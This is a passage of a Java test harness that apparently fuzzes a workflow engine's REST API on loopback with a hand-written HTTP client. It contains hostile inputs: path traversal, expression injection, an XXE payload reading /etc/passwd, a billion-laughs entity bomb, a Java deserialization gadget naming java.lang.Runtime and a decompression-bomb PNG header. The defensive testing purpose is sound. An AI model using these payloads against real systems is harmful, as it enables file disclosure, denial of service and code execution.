                "/engine-rest/task/..%2f..%2fuser",
                "/engine-rest/task;x=1", "/engine-rest/task?assigneeExpression=" + encode("${currentUser()}"),
                "/engine-rest/deployment/" + encode(hostile(rng)) + "/resources", "/engine-rest/user/"
                        + encode(hostile(rng)) + "/profile")) {
            in.add(engine("engine read GET", "GET", path, logins.get(rng.nextInt(logins.size())), null, rng));
        }
        // a process owner may deploy, but not a broken or hostile model
        List<String> models = List.of("<definitions>", "not xml at all",
                q("<?xml version='1.0'?><!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><definitions "
                        + "xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL' targetNamespace='x'>&x;</definitions>"),
                q("<?xml version='1.0'?><!DOCTYPE d [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '" + "&a;".repeat(10) + "'>"
                        + "<!ENTITY c '" + "&b;".repeat(10) + "'><!ENTITY d '" + "&c;".repeat(10) + "'>]>"
                        + "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL' targetNamespace='x'>&d;"
                        + "</definitions>"));
        for (String model : models) {
            for (String name : List.of("hostile.bpmn", "hostile.dmn")) {
                byte[] body = multipart(List.of(part("deployment-name", "演练"), filePart("data", name, bytes(model))));
                in.add(new Input("engine deployment by the process owner", "broken " + name, "POST",
                        "/engine-rest/deployment/create", "zhongwen", Map.of(), MULTIPART_TYPE, body, LOOPBACK));
            }
        }
        return in;
    }

    private Input engine(String endpoint, String method, String path, String login, String body, Random rng) {
        String mutator = body == null ? "no body" : body.length() > 40 ? body.substring(0, 40) : body;
        if ("forged".equals(body)) {
            List<String> forged = List.of("\"handlerGroup\":{\"value\":\"grid-SFZ-C02-G01\"}",
                    "\"handlingDueAt\":{\"value\":\"2099-01-01T00:00:00.000+0800\",\"type\":\"Date\"}",
                    "\"yellowAt\":{\"value\":\"x\"}", "\"priority\":{\"value\":0,\"type\":\"Integer\"}",
                    "\"verifyOutcome\":" + NODES.objectNode().put("value", hostile(rng)),
                    "\"verifyNote\":{\"value\":{\"nested\":true}}",
                    q("'verifyNote':{'value':'x','type':'Object','valueInfo':{'objectTypeName':'java.lang.Runtime',"
                            + "'serializationDataFormat':'application/x-java-serialized-object'}}"),
                    "\"verifyNote\":{\"value\":\"${execution.setVariable('x',1)}\"}");
            body = "{\"variables\":{" + forged.get(rng.nextInt(forged.size())) + "}}";
            mutator = "forged variables";
        }
        if ("deployment".equals(body)) {
            return new Input(endpoint, "deployment by a non-owner", method, path, login, Map.of(), MULTIPART_TYPE,
                    multipart(List.of(part("deployment-name", "x"),
                            filePart("data", "x.bpmn", bytes("<definitions/>")))),
                    LOOPBACK);
        }
        return new Input(endpoint, mutator, method, path, login, Map.of(), body == null ? null : "application/json",
                body == null ? null : bytes(body), LOOPBACK);
    }

    // ------------------------------------------------------------------ files

    private static byte[] pngCache;

    static byte[] png() {
        if (pngCache == null) {
            try {
                java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(64, 48,
                        java.awt.image.BufferedImage.TYPE_INT_RGB);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                javax.imageio.ImageIO.write(image, "png", out);
                pngCache = out.toByteArray();
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
        return pngCache;
    }

    /** A PNG signature and IHDR declaring 50000 × 50000 pixels, and nothing else. */
    private static byte[] hugePngHeader() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        out.writeBytes(new byte[] {0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        out.writeBytes(new byte[] {0, 0, (byte) 0xC3, 0x50, 0, 0, (byte) 0xC3, 0x50, 8, 2, 0, 0, 0, 0, 0, 0, 0});
        return out.toByteArray();
    }

    private static byte[] oversized(Random r) {
        byte[] big = new byte[300 * 1024];
        r.nextBytes(big);
        big[0] = (byte) 0xFF;
        big[1] = (byte) 0xD8;
        big[2] = (byte) 0xFF;
        return big;
    }

    // ------------------------------------------------------------------ a plain HTTP/1.1 client

    record Answer(int status, String contentType, byte[] body) {
        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }
    }

    private Answer send(Input in) throws IOException {
        try (Socket socket = new Socket()) {
            socket.bind(new InetSocketAddress(in.from(), 0));
            socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5000);
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder(in.method()).append(' ').append(in.path()).append(" HTTP/1.1\r\n")
                    .append("Host: localhost:").append(port).append("\r\nConnection: close\r\n")
                    .append("Accept: application/json, application/problem+json, text/html, text/xml, */*\r\n");
            if (in.login() != null) {
                String credentials = in.login().contains(":") ? in.login() : in.login() + ":" + PASSWORD;
                head.append("Authorization: Basic ")
                        .append(Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8)))
                        .append("\r\n");
            }
            if (in.contentType() != null) {
                head.append("Content-Type: ").append(in.contentType()).append("\r\n");
            }
            in.headers().forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
            byte[] body = in.body() == null ? new byte[0] : in.body();
            if (in.body() != null || !in.method().equals("GET")) {
                head.append("Content-Length: ").append(body.length).append("\r\n");
            }
            head.append("\r\n");
            OutputStream out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.UTF_8));
            try {
                out.write(body);
                out.flush();
            } catch (IOException e) {
                // the server may answer (413) and close before it has read the whole body
            }
            return parse(socket.getInputStream().readAllBytes());
        }
    }

    private static Answer parse(byte[] raw) throws IOException {
        int end = indexOf(raw, bytes("\r\n\r\n"), 0);
        if (end < 0) {
            throw new IOException("no answer head: " + new String(raw, StandardCharsets.ISO_8859_1));
        }
        String[] lines = new String(raw, 0, end, StandardCharsets.ISO_8859_1).split("\r\n");
        int status = Integer.parseInt(lines[0].split(" ")[1]);
        String contentType = null;
        boolean chunked = false;
        for (String line : lines) {
            String lower = line.toLowerCase(Locale.ROOT);
            if (lower.startsWith("content-type:")) {
                contentType = line.substring(13).strip();
            } else if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) {
                chunked = true;
            }
        }
        byte[] body = java.util.Arrays.copyOfRange(raw, end + 4, raw.length);
        return new Answer(status, contentType, chunked ? dechunk(body) : body);
    }

    private static byte[] dechunk(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int at = 0;
        while (at < body.length) {
            int lineEnd = indexOf(body, bytes("\r\n"), at);
            int size = Integer.parseInt(new String(body, at, lineEnd - at, StandardCharsets.US_ASCII).split(";")[0]
                    .strip(), 16);
            if (size == 0) {
                break;
            }
            out.write(body, lineEnd + 2, size);
            at = lineEnd + 2 + size + 2;
        }
        return out.toByteArray();
    }

    private static int indexOf(byte[] data, byte[] what, int from) {
        outer:
        for (int i = from; i <= data.length - what.length; i++) {
            for (int j = 0; j < what.length; j++) {
                if (data[i + j] != what[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    /** JSON written with single quotes, for legibility. */
    private static String q(String json) {
        return json.replace('\'', '"');
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static String abbreviate(String s) {
        String one = s.replaceAll("\\s+", " ");
        return one.length() <= 240 ? one : one.substring(0, 240) + "…";
    }
}
